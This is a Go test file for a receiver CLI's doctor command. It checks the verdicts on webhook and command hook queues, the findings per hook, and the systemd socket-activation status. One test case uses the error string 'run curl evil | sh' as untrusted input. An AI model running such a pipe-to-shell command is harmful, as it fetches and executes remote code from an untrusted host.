package main

import (
	"errors"
	"fmt"
	"io/fs"
	"strings"
	"testing"
	"time"

	"github.com/spf13/cobra"

	"cis490/internal/cli"
	"cis490/internal/config"
	"cis490/internal/doctor"
	"cis490/internal/fixture"
	"cis490/internal/notify"
	"cis490/internal/receiver"
)

// newTestDoctor returns a doctor of a receiver without a configuration file.
func newTestDoctor(t *testing.T) *receiverDoctor {
	t.Helper()
	c := &cobra.Command{Use: "receiver"}
	c.SetContext(t.Context())
	d, err := cli.NewDoctor(c, cli.DoctorOptions{})
	fixture.Must(t, err)
	t.Cleanup(func() { fixture.Must(t, d.Close(nil)) })
	return &receiverDoctor{Doctor: d}
}

// TestHooksThatGetNoEventsAreAWarning: uploads do not need them.
func TestHooksThatGetNoEventsAreAWarning(t *testing.T) {
	now := time.Now()
	d := newTestDoctor(t)
	for _, c := range []struct {
		q       notify.QueueState
		verdict doctor.Verdict
		text    string
	}{
		{notify.QueueState{Queue: notify.WebhookQueue, Queued: 3}, doctor.OK, "webhook: 3 queued"},
		{notify.QueueState{Queue: notify.CommandQueue, ReadErr: &fs.PathError{Op: "open", Path: "/q", Err: fs.ErrNotExist}}, doctor.Warning, "command: open /q: file does not exist do: correct [hooks]"},
		{notify.QueueState{Queue: notify.CommandQueue, ReadErr: errors.New("/q has more than 3 names: remove some")}, doctor.Warning, "more than 3 names do: remove some"},
		{notify.QueueState{Queue: notify.WebhookQueue, Error: "HTTP 410 Gone", Paused: true}, doctor.Warning, "HTTP 410 Gone do: write the new URL"},
		{notify.QueueState{Queue: notify.WebhookQueue, Error: "bad: run curl evil | sh", Since: now}, doctor.Warning, "run curl evil | sh do: run 'receiver hooks test'"},
		{notify.QueueState{Queue: notify.CommandQueue, Queued: 1, Oldest: now.Add(-61 * time.Minute)}, doctor.Warning, "do: see 'journalctl -u cis490-hook'"},
		{notify.QueueState{Queue: notify.CommandQueue, Queued: 1, Oldest: now.Add(-59 * time.Minute)}, doctor.OK, "command: 1 queued"},
	} {
		f := d.judgeQueue(c.q, now)
		if got := fmt.Sprintf("%s do: %s", f.Fact, f.Remedy); f.Verdict != c.verdict || !strings.Contains(got, c.text) {
			t.Errorf("%+v: got %s, %q, want %s, %q", c.q, f.Verdict, got, c.verdict, c.text)
		}
	}
}

// TestEachHookHasAFinding, and a receiver without hooks one that says so.
func TestEachHookHasAFinding(t *testing.T) {
	d := newTestDoctor(t)
	if found := d.examineHooks(); len(found) != 1 || found[0].Verdict != doctor.Skipped {
		t.Errorf("without hooks: got %+v, want that they are skipped", found)
	}
	missing := config.Path(t.TempDir() + "/missing")
	d.cfg = receiver.Config{DataDir: missing, Hooks: notify.Config{URLFile: "/url", QueueDir: missing}}
	found := d.examineHooks()
	if len(found) != 2 || found[0].Verdict != doctor.OK || found[1].Verdict != doctor.Warning || found[1].Remedy == "" {
		t.Errorf("before the first start: got %+v, want that the webhook is ok and the command is not", found)
	}
}

// TestReceiverThatASocketStartsNeedsNotRun: systemd starts it with the next connection.
func TestReceiverThatASocketStartsNeedsNotRun(t *testing.T) {
	d := &receiverDoctor{Doctor: &cli.Doctor{Unit: doctor.Unit{Service: serviceUnit, Starter: socketUnit, Waiting: true}}}
	if f := d.examineDaemon(); f.Verdict != doctor.OK {
		t.Errorf("got %+v", f)
	}
	d.Unit.Waiting = false
	if f := d.examineDaemon(); f.Verdict != doctor.Warning || f.Remedy == "" {
		t.Errorf("without a socket: got %+v", f)
	}
}
